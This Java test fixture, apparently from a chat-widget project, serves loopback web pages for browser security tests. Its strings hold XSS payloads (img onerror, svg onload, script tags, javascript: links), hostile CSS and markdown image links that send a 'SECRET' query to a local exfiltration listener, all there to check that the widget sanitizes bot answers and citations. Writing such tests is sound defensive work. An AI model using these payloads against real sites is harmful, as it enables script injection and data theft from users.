package io.cairn.host.server;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

/**
 * The websites of the browser tests, on loopback: a customer's pages embedding the widget (one with hostile CSS under
 * a strict CSP, one with no CSP at all), the source pages the bots learn from, and an exfiltration listener on its
 * own port that counts every request it gets. {@code http://localhost:port} reaches the same pages from an origin
 * no bot allows.
 */
final class TestSites implements AutoCloseable {

    static final String TIMETABLE_TITLE = "Kestrel ferry timetable";
    static final String XSS_NAME = "<img src=x onerror=\"alert('name');window.__pwned='name'\">";
    private static final String FERRY = "The Kestrel ferry leaves Port Arlo every morning at 07:40 from pier three."
            + " Bicycles travel free of charge. Tickets are sold on board.";
    private static final String CSP_NONCE = "aG9zdGlsZS1wYWdl";

    private final TestWebsite site;
    private final TestWebsite exfil;
    private volatile String cairn = "";

    private TestSites() {
        try {
            site = TestWebsite.start();
            exfil = TestWebsite.start();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        site.html("/docs/timetable.html", html(TIMETABLE_TITLE, "<h1>Timetable</h1><p>" + FERRY + "</p>"));
    }

    static TestSites start() {
        return new TestSites();
    }

    int port() {
        return site.port();
    }

    String origin() {
        return "http://127.0.0.1:" + port();
    }

    /** The same pages, from an origin that is on no bot's allow-list. */
    String foreignOrigin() {
        return "http://localhost:" + port();
    }

    String timetableUrl() {
        return origin() + "/docs/timetable.html";
    }

    /** A source page whose title and text carry payloads: they reach the widget as citation titles and snippets. */
    String craftedUrl() {
        site.html(
                "/docs/crafted.html",
                "<!doctype html><html><head><title><img src=x onerror=alert('title')></title></head><body><p>" + FERRY
                        + "</p><p>&lt;svg onload=alert('snippet')&gt; ![s](" + exfilUrl()
                        + "/snippet)</p></body></html>");
        return origin() + "/docs/crafted.html";
    }

    String exfilUrl() {
        return "http://127.0.0.1:" + exfil.port();
    }

    List<String> exfilRequests() {
        return exfil.requests();
    }

    static String xssWelcome(String exfil) {
        return "<svg onload=\"alert('welcome');window.__pwned='welcome'\"> ![w](" + exfil
                + "/welcome) [y](javascript:alert('welcome-link'))";
    }

    static String xssAnswer(String exfil) {
        return "Here you go.\n\n<img src=x onerror=\"alert('img');window.__pwned='img'\">\n\n"
                + "<script>alert('script');window.__pwned='script'</script>\n\n"
                + "<svg onload=\"alert('svg');window.__pwned='svg'\">\n\n"
                + "[click me](javascript:alert('link'))\n\n"
                + "![a](" + exfil + "/exfil?q=SECRET)\n\n"
                + "<img src=\"" + exfil + "/img-tag\"> [1]";
    }

    void serveWidgetFrom(String cairnOrigin) {
        this.cairn = cairnOrigin;
    }

    /** The test host pages, embedding the widget exactly as docs/widget.md tells customers to. */
    void embed(String publicKey, String xssKey) {
        String snippet = "<script src=\"" + cairn + "/widget.js\" data-bot=\"%s\" async></script>";
        site.reply(
                "/hostile.html",
                new TestWebsite.Reply(
                        200,
                        "text/html; charset=utf-8",
                        utf8(
                                "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>Hostile shop</title>"
                                        + "<style nonce=\"" + CSP_NONCE + "\">" + HOSTILE_CSS + "</style></head><body>"
                                        + "<h1>Shop</h1><p id=\"host-note\">The host page's own text.</p>"
                                        + "<a id=\"host-link\" href=\"#top\">A host link</a>"
                                        + snippet.formatted(publicKey) + "</body></html>"),
                        Map.of("Content-Security-Policy", csp())));
        site.html(
                "/open.html",
                "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>Open shop</title></head>"
                        + "<body><h1>No CSP here</h1>" + snippet.formatted(xssKey) + "</body></html>");
    }

    /** CSS that tries to hide, shrink, restyle and cover the widget, and rules the widget must not disturb. */
    private static final String HOSTILE_CSS = "* { font-family: 'Comic Sans MS', cursive !important;"
            + " color: #f0f !important; letter-spacing: 4px !important; box-sizing: content-box !important; }"
            + " body > *:last-child, cairn-widget, [class], div { display: none !important; opacity: 0 !important;"
            + " transform: scale(0.1) rotate(180deg) !important; width: 1px !important; height: 1px !important;"
            + " position: static !important; }"
            + " button, textarea, svg, ol, li, a { background: red !important; width: 2px !important;"
            + " height: 2px !important; display: none !important; }"
            + " body { margin: 0 !important; } #host-note { color: rgb(10, 20, 30) !important; }";

    private String csp() {
        return "default-src 'none'; script-src " + cairn + "; connect-src " + cairn + "; style-src 'nonce-" + CSP_NONCE
                + "'; img-src 'none'; base-uri 'none'; form-action 'none'";
    }

    private static String html(String title, String body) {
        return "<!doctype html><html><head><meta charset=\"utf-8\"><title>" + title + "</title></head><body>" + body
                + "</body></html>";
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    @Override
    public void close() {
        site.close();
        exfil.close();
    }
}
